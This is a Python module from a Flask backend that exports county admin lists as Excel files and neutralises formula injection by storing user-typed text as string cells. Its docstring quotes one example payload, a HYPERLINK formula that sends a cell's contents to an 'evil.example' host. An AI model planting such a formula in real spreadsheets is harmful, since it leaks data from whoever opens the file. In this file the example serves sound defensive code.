"""Excel (.xlsx) downloads of admin lists: counties keep their ledgers in Excel.

A list page offers `?format=xlsx` with the same filters as on screen; the view asks its service
for every row (up to EXPORT_MAX_ROWS, never more than the page's scope) and hands them here.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from datetime import date, datetime
from io import BytesIO
from typing import TYPE_CHECKING

from flask import Response, request, send_file
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

from backend.timeutil import to_local, today_local

# One county's households are ~100k at the very most; a bigger export is a bug, not a request.
EXPORT_MAX_ROWS = 100_000


def wants_xlsx() -> bool:
    return request.args.get("format") == "xlsx"


if TYPE_CHECKING:
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

# A text that starts with one of these is a formula to Excel and to openpyxl (which writes "=…" as one).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _cell_value(value: object) -> object:
    # Excel has no time zones: show local (Asia/Shanghai) wall time, as the county reads it.
    if isinstance(value, datetime):
        return to_local(value).replace(tzinfo=None)
    if value is None or isinstance(value, int | float | str | date):
        return value
    return str(value)


def _cell(sheet: WriteOnlyWorksheet, value: object) -> object:
    """Text a villager or cadre typed (a claim note, a reason) stays text: a note such as
    `=HYPERLINK("http://evil.example/?leak="&B2,"点此查看证明")` is written as a string cell, never a formula
    that would run in the county's Excel."""
    value = _cell_value(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        cell = WriteOnlyCell(sheet, value=value)
        cell.data_type = "s"
        return cell
    return value


def xlsx_response(filename: str, title: str, headers: Sequence[str], rows: Iterable[Sequence[object]]) -> Response:
    """One sheet: a bold, frozen header row, then the rows; the file name gets today's date."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=title[:31])
    sheet.freeze_panes = "A2"
    for index, header in enumerate(headers, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = max(10, min(40, len(header) * 2 + 4))
    header_cells = []
    for header in headers:
        cell = WriteOnlyCell(sheet, value=header)
        cell.font = Font(bold=True)
        header_cells.append(cell)
    sheet.append(header_cells)
    for row in rows:
        sheet.append([_cell(sheet, value) for value in row])
    buffer = BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    return send_file(
        buffer,
        mimetype="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        as_attachment=True,
        download_name=f"{filename}-{today_local().isoformat()}.xlsx",
    )
